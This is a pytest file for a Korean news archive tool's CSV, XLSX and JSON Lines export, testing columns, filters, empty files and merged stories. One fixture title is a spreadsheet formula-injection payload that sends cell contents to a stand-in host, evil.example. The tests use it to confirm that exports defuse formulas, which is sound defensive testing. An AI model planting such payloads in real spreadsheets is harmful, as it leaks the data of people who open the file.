"""`Scwatch.export` on both backends: CSV that Excel opens with Korean intact, XLSX read
back with openpyxl, JSON Lines, the story, rule and deal columns, formulas defused, and an
empty selection that still gives a valid file. (Control characters never reach storage;
their removal from XLSX cells is tested in tests/core/formats/test_exports.py.)"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from support.archive import CONFIG
from support.articles import make_article
from support.story_texts import REWRITE, REWRITE_TITLE, WIRE, WIRE_TITLE

from scwatch import Scwatch
from scwatch.api import DealFilter
from scwatch.config import load_config
from scwatch.core.errors import QueryError
from scwatch.core.formats.exports import EXPORT_COLUMNS

NOW = datetime.now(UTC) - timedelta(hours=3)
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"스마트시티 수출 계약 보기")'
HOSTILE_BODY = "@SUM(1+1) 스마트시티 수출 계약을 맺었다. 종이 울렸다."


@pytest.fixture
def scwatch(database_url: str, tmp_path: Path) -> Iterator[Scwatch]:
    """An archive on each backend: a wire story and another outlet's rewrite (one story of
    two, with a deal), and an article whose title and body attack spreadsheets."""
    path = tmp_path / "scwatch.toml"
    path.write_text(CONFIG, encoding="utf-8")
    config = replace(load_config(path), database_url=database_url)
    stories = [
        ("gukje", "https://news.example.kr/a/1", WIRE_TITLE, WIRE),
        ("daily", "https://daily.example.kr/b/2", REWRITE_TITLE, REWRITE),
        ("gukje", "https://news.example.kr/a/3", HOSTILE_TITLE, HOSTILE_BODY),
    ]
    with Scwatch(config) as writer:
        ingest = writer._write_runtime().ingestor.ingest
        for n, (source, url, title, body) in enumerate(stories):
            at = NOW + timedelta(minutes=n)
            ingest(make_article(url, title, body, source=source, first_seen_at=at))
    with Scwatch(config) as reader:
        yield reader


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel reads UTF-8 only after a BOM"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_a_bom_korean_and_the_story_rule_and_deal_columns(scwatch: Scwatch) -> None:
    target = io.BytesIO()
    assert scwatch.export(target, format="csv") == 3
    rows = csv_rows(target.getvalue())
    assert list(rows[0]) == EXPORT_COLUMNS
    wire, rewrite = rows[0], rows[1]
    assert wire["title"] == WIRE_TITLE
    assert wire["story_id"] == rewrite["story_id"] and wire["story_size"] == "2"
    assert wire["story_outlets"] == "daily; gukje"
    assert wire["rules"] == "export"
    assert (wire["deal_kind"], wire["deal_status"]) == ("export", "done")
    assert wire["deal_country"] == "쿠웨이트" and "1,200억" in wire["deal_amount"]
    assert "한결도시공사" in wire["deal_parties"]


def test_xlsx_reads_back_with_korean_and_defused_cells(scwatch: Scwatch, tmp_path: Path) -> None:
    path = tmp_path / "articles.xlsx"
    assert scwatch.export(path, format="xlsx") == 3
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert header == EXPORT_COLUMNS
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    assert by_column[0]["title"] == WIRE_TITLE and by_column[0]["story_size"] == 2
    hostile = by_column[2]
    assert hostile["title"] == "'" + HOSTILE_TITLE  # text, never a formula
    assert hostile["body"] == "'" + HOSTILE_BODY
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_csv_defuses_formulas_too(scwatch: Scwatch) -> None:
    target = io.BytesIO()
    scwatch.export(target, format="csv")
    hostile = csv_rows(target.getvalue())[2]
    assert hostile["title"] == "'" + HOSTILE_TITLE
    assert hostile["body"].startswith("'@SUM(1+1)")


def test_json_lines_keep_text_as_is_and_lists_as_lists(scwatch: Scwatch) -> None:
    target = io.BytesIO()
    scwatch.export(target, format="jsonl")
    rows = [json.loads(line) for line in target.getvalue().decode("utf-8").splitlines()]
    assert rows[2]["title"] == HOSTILE_TITLE  # data for scripts: nothing to defuse
    assert rows[0]["story_outlets"] == ["daily", "gukje"] and rows[0]["rules"] == ["export"]
    assert "스마트시티" in target.getvalue().decode("utf-8")  # no \\u escapes


def test_query_rule_and_deal_narrow_the_export(scwatch: Scwatch) -> None:
    found = list(scwatch.export_rows(query="쿠웨이트"))
    assert {row["title"] for row in found} == {WIRE_TITLE, REWRITE_TITLE}
    assert [r["title"] for r in scwatch.export_rows(deal=DealFilter(kinds=["mou"]))] == []
    assert len(list(scwatch.export_rows(rule="export"))) >= 1
    assert len(list(scwatch.export_rows(limit=1))) == 1
    story = found[0]["story_id"]
    assert len(list(scwatch.export_rows(story=story))) == 2
    assert len(list(scwatch.export_rows(query="쿠웨이트 OR 종", story=story, limit=1))) == 1
    assert list(scwatch.export_rows(date_to=NOW - timedelta(days=1))) == []
    with pytest.raises(QueryError, match="unknown rule"):
        scwatch.export_rows(rule="nothing")


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx"])
def test_an_empty_selection_is_a_valid_file(scwatch: Scwatch, fmt: str) -> None:
    target = io.BytesIO()
    future = datetime.now(UTC) + timedelta(days=1)
    assert scwatch.export(target, format=fmt, since=future) == 0  # type: ignore[arg-type]
    data = target.getvalue()
    if fmt == "csv":
        assert csv_rows(data) == [] and data.decode("utf-8-sig").startswith("id,source")
    elif fmt == "jsonl":
        assert data == b""
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert sheet is not None and sheet.max_row == 1


def test_an_unknown_format_is_a_clear_error(scwatch: Scwatch) -> None:
    with pytest.raises(QueryError, match="csv, jsonl, xlsx"):
        scwatch.export(io.BytesIO(), format="xls")  # type: ignore[arg-type]


def test_a_query_export_pages_through_every_match(
    scwatch: Scwatch, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("scwatch.api.exports.FIND_PAGE", 1)  # one article per find call
    titles = [row["title"] for row in scwatch.export_rows(query="스마트시티")]
    assert sorted(titles) == sorted([WIRE_TITLE, REWRITE_TITLE, HOSTILE_TITLE])
    assert len(list(scwatch.export_rows(query="스마트시티", limit=2))) == 2


def test_a_story_id_from_before_a_merge_still_exports_its_articles(scwatch: Scwatch) -> None:
    rows = {row["url"]: row for row in scwatch.export_rows()}
    wire = int(rows["https://news.example.kr/a/1"]["story_id"])
    hostile = int(rows["https://news.example.kr/a/3"]["story_id"])
    assert wire != hostile
    with Scwatch(scwatch.config) as desk:
        desk.merge_stories(wire, hostile)
    # As `find` does: the old id names the merged story's articles, with or without a query.
    assert len(list(scwatch.export_rows(story=hostile))) == 3
    assert len(list(scwatch.export_rows(story=hostile, query="스마트시티"))) == len(
        scwatch.find("스마트시티", story=hostile, collapse=False).hits
    )
